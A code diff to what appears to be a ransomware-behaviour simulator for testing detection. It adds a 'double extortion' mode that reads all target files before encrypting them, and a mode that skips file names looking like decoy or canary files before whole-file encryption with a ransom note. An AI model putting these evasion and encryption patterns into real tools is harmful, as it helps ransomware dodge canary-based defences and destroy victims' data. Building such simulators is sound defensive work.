@@ -151,7 +151,7 @@ static long long now_ns(void)
 static void logev(const char *op, const char *path)
 {
 	long long t = now_ns();
-	if (strcmp(op, "note") != 0) {
+	if (strcmp(op, "note") != 0 && strcmp(op, "read") != 0) {
 		long long zero = 0;
 		atomic_compare_exchange_strong(&g_first_write_ns, &zero, t);
 	}
@@ -366,6 +366,8 @@ struct behaviour {
 	int per_dir;             /* directory hopping: files per folder per visit */
 	bool vm_only;            /* ESXi: only VM files */
 	long percent;            /* default percent for percent-driven plans */
+	bool exfil_first;        /* read every target before encrypting any */
+	bool skip_decoys;        /* leave names that look like decoys alone */
 };
 
 static const struct behaviour *B;
@@ -636,6 +638,14 @@ static const struct behaviour behaviours[] = {
 	  .summary = "Conti's pattern with 32 threads, as the family runs by default",
 	  .plan = plan_conti, .footer = 534, .footer_magic = "CNTI", .ext = E_FIXED, .ext_fixed = ".CONTI",
 	  .note = "readme.txt", .note_where = N_PER_DIR, .threads = 32 },
+	{ .name = "exfil-then-encrypt", .family = "double extortion (Conti/LockBit playbook)",
+	  .summary = "reads every file first (staging for exfiltration), then Conti's chunks, .CONTI",
+	  .plan = plan_conti, .footer = 534, .footer_magic = "CNTI", .ext = E_FIXED, .ext_fixed = ".CONTI",
+	  .note = "readme.txt", .note_where = N_PER_DIR, .exfil_first = true },
+	{ .name = "decoy-aware", .family = "evasion of decoy files",
+	  .summary = "skips names that look like decoys (leading !, 0, _, ~, $), whole-file AES, .lockd",
+	  .plan = plan_whole, .footer = 256, .footer_magic = "LCKD", .ext = E_FIXED, .ext_fixed = ".lockd",
+	  .note = "RESTORE-FILES.txt", .note_where = N_PER_DIR, .skip_decoys = true },
 	{ .name = "esxi-babuk-1m", .family = "Babuk ESXi",
 	  .summary = "1 MiB blocks from offset 0 up to 512 MiB, 32-B footer, .babyk, single process",
 	  .plan = plan_babuk, .footer = 32, .footer_magic = "BBK!", .ext = E_FIXED, .ext_fixed = ".babyk",
@@ -1149,6 +1159,24 @@ static void fl_push(struct flist *l, const char *s)
 	l->v[l->n++] = strdup(s);
 }
 
+
+static struct flist g_list;
+
+/* Double extortion: read every target whole before touching any. */
+static void stage_all(size_t limit)
+{
+	static char buf[1 << 16];
+	for (size_t i = 0; i < limit; i++) {
+		int fd = open_beneath(g_list.v[i], O_RDONLY, 0);
+		if (fd < 0)
+			continue;
+		logev("read", g_list.v[i]);
+		while (read(fd, buf, sizeof buf) > 0)
+			;
+		close(fd);
+	}
+}
+
 static int cmpstr(const void *a, const void *b)
 {
 	return strcmp(*(char *const *)a, *(char *const *)b);
@@ -1161,6 +1189,8 @@ static bool skip_name(const char *name)
 	if (strcmp(name, MARKER) == 0)
 		return true;
 	if (B->note && B->note_where != N_NONE && strcmp(name, g_note_name) == 0)
+		return true;
+	if (B->skip_decoys && strchr("!0_~$", name[0]) != NULL)
 		return true;
 	size_t nl = strlen(name), el = strlen(g_ext);
 	if (el > 0 && nl > el && strcmp(name + nl - el, g_ext) == 0)
@@ -1264,7 +1294,6 @@ static void reorder_dirhop(struct flist *l, int k)
 /* ------------------------------------------------------------------ */
 /* drivers                                                              */
 
-static struct flist g_list;
 static atomic_size_t g_next;
 static size_t g_limit;
 
@@ -1413,6 +1442,8 @@ int main(int argc, char **argv)
 	if (max_files >= 0 && (size_t)max_files < g_limit)
 		g_limit = (size_t)max_files;
 
+	if (B->exfil_first)
+		stage_all(g_limit);
 	long interval = g_interval_ms >= 0 ? g_interval_ms : B->interval_ms;
 	int threads = g_threads > 0 ? g_threads : (B->threads > 0 ? B->threads : 1);
 	long long t0 = now_ns();
